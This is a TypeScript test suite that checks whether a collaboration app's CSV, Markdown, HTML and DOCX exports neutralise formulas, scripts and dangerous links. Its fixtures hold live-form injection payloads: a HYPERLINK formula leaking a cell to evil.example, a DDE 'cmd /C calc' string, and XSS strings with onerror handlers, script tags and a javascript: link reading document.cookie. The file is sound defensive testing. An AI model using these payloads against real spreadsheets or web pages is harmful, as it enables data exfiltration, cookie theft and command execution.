import { CollaborationServer } from '@roundtable/api-collaboration';
import { EDITOR_FRAGMENT } from '@roundtable/editor-schema';
import { parse as parseCsv } from 'csv-parse/sync';
import { Window } from 'happy-dom';
import MarkdownIt from 'markdown-it';
import * as Y from 'yjs';
import { readDocx } from '../support/export-readers';
import { HttpClient } from '../support/http-client';
import { startTestApp, type TestApp } from '../support/test-app';

/** Exports read back with real parsers: nothing a user typed becomes a formula, a script or a live link. */
describe('exports carry no active content', () => {
  let t: TestApp;
  let coordinator: HttpClient;
  let projectId: string;

  beforeAll(async () => {
    t = await startTestApp();
    coordinator = await new HttpClient(t.baseUrl).login('coordinator@example.org');
    projectId = (await coordinator.get('/api/projects')).body[0].id;
  });
  afterAll(() => t.close());

  /** A cell a spreadsheet would evaluate: starts with = + @, a tab or CR, or a minus that is not a number. */
  const isFormula = (cell: string) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell);

  it('writes plan titles that look like formulas as text in the CSV', async () => {
    const created = await coordinator.post(`/api/projects/${projectId}/plan/items`, {
      kind: 'deliverable',
      number: 'D9.1',
      titleEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      titleZh: '@SUM(1+1)',
      dueMonth: 20,
    });
    expect(created.status).toBe(201);
    const response = await coordinator.get(`/api/projects/${projectId}/plan/export.csv`);
    expect(response.status).toBe(200);
    const rows = parseCsv(response.body as string, { bom: true, columns: true }) as Array<Record<string, string>>;
    const row = rows.find((r) => r.number === 'D9.1')!;
    expect(row.title_en).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")');
    expect(row.title_zh).toBe("'@SUM(1+1)");
    expect(rows.flatMap((r) => Object.values(r)).filter(isFormula)).toEqual([]);
  });

  it('writes a partner name that looks like a formula as text in the balance CSV', async () => {
    await t.dataSource.query(
      "UPDATE partners SET short_name = '=cmd|'' /C calc''!A0' WHERE id = (SELECT id FROM partners ORDER BY short_name LIMIT 1)",
    );
    const response = await coordinator.get(`/api/projects/${projectId}/balance.csv`);
    expect(response.status).toBe(200);
    const cells = (parseCsv(response.body as string, { bom: true }) as string[][]).flat();
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells.filter(isFormula)).toEqual([]);
  });

  it('exports a document with hostile marks as Markdown and HTML that run nothing', async () => {
    const [document] = (await coordinator.get('/api/documents')).body as Array<{ id: string }>;
    await t.app.get(CollaborationServer).editDocument(document.id, (doc) => {
      const paragraph = new Y.XmlElement('paragraph');
      const text = new Y.XmlText();
      text.insert(0, '<img src=x onerror=alert(1)> ');
      text.insert(text.length, 'click me', { link: { href: 'javascript:alert(document.cookie)' } });
      text.insert(text.length, ' and ');
      text.insert(text.length, 'a`<img src=x onerror=alert(2)>`', { code: {} });
      paragraph.insert(0, [text]);
      const block = new Y.XmlElement('codeBlock');
      block.setAttribute('language', 'js\n<script>alert(3)</script>');
      block.insert(0, [new Y.XmlText('```\n<script>alert(4)</script>')]);
      doc.getXmlFragment(EDITOR_FRAGMENT).push([paragraph, block]);
    });

    const markdown = await fetch(`${t.baseUrl}/api/documents/${document.id}/content.md`, {
      headers: { cookie: coordinator.cookie! },
    }).then((r) => r.text());
    expect(markdown).toContain('click me');
    // Read back by the most permissive CommonMark reader: raw HTML on, every link scheme let through.
    const reader = new MarkdownIt({ html: true });
    reader.validateLink = () => true;
    type Token = ReturnType<ReturnType<typeof MarkdownIt>['parse']>[number];
    const flatten = (tokens: Token[]): Token[] => tokens.flatMap((token) => [token, ...flatten(token.children ?? [])]);
    const tokens = flatten(reader.parse(markdown, {}));
    expect(tokens.filter((token) => token.type.startsWith('html_')).map((token) => token.content)).toEqual([]);
    expect(tokens.filter((token) => token.type === 'link_open').map((token) => token.attrGet('href'))).toEqual([]);
    expect(reader.render(markdown)).not.toMatch(/<img|<script|javascript:/i);

    const { html } = (await coordinator.get(`/api/documents/${document.id}/content`)).body as { html: string };
    const window = new Window({ settings: { disableJavaScriptEvaluation: true, disableJavaScriptFileLoading: true } });
    try {
      const body = window.document.body;
      body.innerHTML = html;
      expect(body.textContent).toContain('click me');
      expect(body.querySelectorAll('script, img, iframe, object, embed, svg').length).toBe(0);
      const elements = [...body.querySelectorAll('*')];
      expect(
        elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))),
      ).toEqual([]);
      expect(
        elements
          .map((element) => element.getAttribute('href'))
          .filter((href) => href && !/^(https?:|mailto:|\/|#)/.test(href)),
      ).toEqual([]);
    } finally {
      await window.happyDOM.close();
    }
  });

  it('exports the same hostile document as Markdown, standalone HTML and DOCX that run nothing', async () => {
    const [document] = (await coordinator.get('/api/documents')).body as Array<{ id: string }>;
    const file = async (format: string) =>
      Buffer.from(
        await (
          await fetch(`${t.baseUrl}/api/documents/${document.id}/export?format=${format}`, {
            headers: { cookie: coordinator.cookie! },
          })
        ).arrayBuffer(),
      );
    const markdown = (await file('md')).toString('utf8');
    expect(markdown).toContain('click me');
    const reader = new MarkdownIt({ html: true });
    reader.validateLink = () => true;
    expect(reader.render(markdown)).not.toMatch(/<img|<script|javascript:/i);

    const html = (await file('html')).toString('utf8');
    const window = new Window({ settings: { disableJavaScriptEvaluation: true, disableJavaScriptFileLoading: true } });
    try {
      window.document.write(html);
      const root = window.document;
      expect(root.body.textContent).toContain('click me');
      expect(root.querySelectorAll('script, img, iframe, object, embed, svg, link').length).toBe(0);
      const elements = [...root.querySelectorAll('*')];
      expect(elements.flatMap((e) => e.getAttributeNames().filter((name) => name.startsWith('on')))).toEqual([]);
      expect(
        elements.map((e) => e.getAttribute('href')).filter((href) => href && !/^(https?:|mailto:|#)/.test(href)),
      ).toEqual([]);
      expect(root.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toMatch(
        /^default-src 'none'/,
      );
    } finally {
      await window.happyDOM.close();
    }

    const docx = readDocx(await file('docx'));
    expect(docx.paragraphs.some((p) => p.text.includes('click me'))).toBe(true);
    const rels = Buffer.from(docx.entries['word/_rels/document.xml.rels']).toString('utf8');
    expect(rels).not.toMatch(/javascript:/i);
  });
});
